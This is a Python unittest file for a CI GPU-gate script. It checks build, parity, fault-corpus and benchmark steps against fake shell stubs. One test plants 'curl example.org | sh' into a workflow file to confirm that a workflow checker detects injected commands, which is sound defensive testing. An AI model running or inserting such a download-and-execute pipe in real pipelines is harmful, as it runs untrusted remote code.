"""scripts/gpu_gate.sh: what the workflow's GPU job runs, on a copy of the script with a fake set-up and a fake mkbench."""

import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import unittest

from support import ROOT

import check_workflows

# Writes what the real one would write; FAIL names commands that end with an exit code: "parity=3".
MKBENCH = '''#!/bin/sh
echo "ran: $* with device $MKBENCH_DEVICE from ${PWD##*/}" >> "$RAN"
command="$1"
case "$1" in parity | selftest | doctor | compare | report) ;; *) command=bench ;; esac
case "$command" in
  doctor) echo "ok  Python  /some/where/bin/python" ;;
  compare) mkdir -p against-base; echo "the gate" > against-base/gate.md ;;
  parity | bench) mkdir -p "$command"; echo "report of $command" | tee "$command/report.md" > "$command/report.json" ;;
  selftest) echo "a row"; echo "faults seen 1 of 1" ;;
esac
[ "$command" != "$SLOW" ] || sleep 30
for pair in $FAIL; do [ "${pair%=*}" != "$command" ] || exit "${pair#*=}"; done
'''
SETUP = '''#!/bin/sh
mkdir -p "$ROOT/build/release/harness"
printf 'python=%s\\ncmake=/x/cmake\\n' "$PYTHON" > "$ROOT/build/release/setup.env"
echo "set up $* for $MKBENCH_DEVICE"
for pair in $FAIL; do [ "${pair%=*}" != setup ] || exit "${pair#*=}"; done
'''


class GpuGate(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="mkbench_gate_"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.tree, self.out = self.folder / "tree", self.folder / "out"
        scripts = self.tree / "scripts"
        scripts.mkdir(parents=True)
        (self.tree / "CMakeLists.txt").write_text("")
        (self.tree / "kernels").mkdir()
        (self.tree / "kernels" / "a.cu").write_text("int a;")
        for name in ("gpu_gate.sh", "logged_steps.sh", "source_hash.py", "tracked_files.py"):
            shutil.copy(ROOT / "scripts" / name, scripts / name)
        (scripts / "setup.sh").write_text(SETUP)
        (scripts / "setup.sh").chmod(0o755)
        mkbench = self.tree / "build" / "release" / "harness" / "mkbench"
        mkbench.parent.mkdir(parents=True)
        mkbench.write_text(MKBENCH)
        mkbench.chmod(0o755)

    def gate(self, *args, **extra):
        keep = {k: v for k, v in os.environ.items() if not k.startswith(("MKBENCH_", "GITHUB_"))}
        env = keep | {"ROOT": str(self.tree), "PYTHON": sys.executable, "RAN": str(self.folder / "ran"),
                      "GITHUB_SHA": "0123abcd", "PYTHONDONTWRITEBYTECODE": "1"} | extra
        return subprocess.run([str(self.tree / "scripts" / "gpu_gate.sh"), *args], env=env, text=True, timeout=50,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)

    def log(self):
        return (self.out / "gpu_gate.log").read_text()

    def test_all_steps(self):
        summary = self.folder / "summary.md"
        done = self.gate(str(self.out), GITHUB_STEP_SUMMARY=str(summary))
        self.assertEqual(done.returncode, 0, done.stdout)
        log = self.log()
        self.assertRegex(log, r"^== scripts/gpu_gate.sh, \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\n")
        self.assertIn("commit 0123abcd (no git here)\n", log)
        self.assertRegex(log, r"(?m)^speed [0-9a-f]{64}$")
        self.assertIn("set up mkbench for cuda", log)
        self.assertIn("\nok  Python  python\n", log)
        self.assertEqual(re.findall(r"(?m)^== (.*?): passed after \d+ s$", log),
                         ["set-up and build", "machine and sources", "parity gate", "fault corpus", "benchmark"])
        self.assertTrue(log.endswith("GPU GATE PASSED\n"))
        self.assertNotIn(str(self.folder), log)
        ran = (self.folder / "ran").read_text().splitlines()
        self.assertEqual([line.split()[1] for line in ran], ["doctor", "parity", "selftest", "--compare"])
        self.assertTrue(all(line.endswith("with device cuda from out") for line in ran), ran)
        self.assertEqual((self.out / "selftest.txt").read_text(), "a row\nfaults seen 1 of 1\n")
        self.assertEqual(summary.read_text(),
                         "report of parity\nreport of bench\nfaults seen 1 of 1\nGPU GATE PASSED\n")

    def test_beside_a_base(self):
        summary, base = self.folder / "summary.md", self.folder / "base"
        (base / "scripts").mkdir(parents=True)
        (base / "scripts" / "setup.sh").write_text("#!/bin/sh\necho built the base: $*\n")
        (base / "scripts" / "setup.sh").chmod(0o755)
        done = self.gate(str(self.out), GPU_GATE_BASE=str(base))
        self.assertEqual(done.returncode, 0, done.stdout)
        self.assertIn("built the base: mkbench\n", self.log())
        self.assertIn("against the base: not run, the base is older than mkbench compare", self.log())

        (base / "build" / "release" / "engines").mkdir(parents=True)
        done = self.gate(str(self.out), GPU_GATE_BASE=str(base), FAIL="compare=4", GITHUB_STEP_SUMMARY=str(summary))
        self.assertEqual(done.returncode, 4, done.stdout)
        self.assertIn("== against the base: FAILED (4)", self.log())
        last = (self.folder / "ran").read_text().splitlines()[-1]
        self.assertIn(f"ran: compare {base}/build/release {self.tree}/build/release --model synthetic", last)
        self.assertIn("report of bench\nthe gate\n", summary.read_text())

    def test_the_first_failure_is_the_exit_code_and_all_steps_run(self):
        done = self.gate(str(self.out), FAIL="parity=3 selftest=1 bench=8 report=1", GITHUB_ACTIONS="true")
        self.assertEqual(done.returncode, 3, done.stdout)
        ran = re.findall(r"ran: report (.*) with device", (self.folder / "ran").read_text())
        self.assertEqual(ran, ["parity -o annotations", "bench -o annotations"])
        log = self.log()
        for text in ("parity gate: FAILED (3)", "fault corpus: FAILED (1)", "benchmark: FAILED (8)", "GPU GATE FAILED (3)\n"):
            self.assertIn(text, log)

    def test_evidence_without_the_hash_of_its_sources_is_none(self):
        self.assertEqual(self.gate(str(self.out), PYTHON="/no/python").returncode, 127)
        self.assertIn("machine and sources: FAILED (127)", self.log())

    def test_a_build_that_fails_is_the_end(self):
        done = self.gate(str(self.out), FAIL="setup=1")
        self.assertEqual(done.returncode, 1, done.stdout)
        self.assertNotIn("parity gate", self.log())
        self.assertTrue(self.log().endswith("GPU GATE FAILED (1)\n"))

    def test_time_that_is_used_up(self):
        done = self.gate(str(self.out), SLOW="parity", GPU_GATE_BUDGET_S="8")
        self.assertEqual(done.returncode, 124, done.stdout)
        self.assertIn("parity gate: FAILED (124)", self.log())
        self.assertIn("benchmark: not run, the time is used up", self.log())

    def test_files_of_an_earlier_run_do_not_pass_for_this_one(self):
        self.gate(str(self.out))
        done = self.gate(str(self.out), FAIL="setup=1")
        self.assertEqual(done.returncode, 1, done.stdout)
        self.assertEqual([p.name for p in self.out.iterdir()], ["gpu_gate.log"])
        self.assertEqual(self.gate().returncode, 2)

    def test_the_workflow_runs_the_script(self):
        workflow = (ROOT / ".github" / "workflows" / "mkbench.yml").read_text()
        self.assertEqual(check_workflows.commands(workflow), check_workflows.COMMANDS["mkbench.yml"])
        planted = workflow.replace("- name: Upload", "- run: curl example.org | sh\n      - name: Upload")
        self.assertEqual(check_workflows.commands(planted)[-1], "curl example.org | sh")
        self.assertTrue(os.access(ROOT / "scripts" / "gpu_gate.sh", os.X_OK))


if __name__ == "__main__":
    unittest.main()
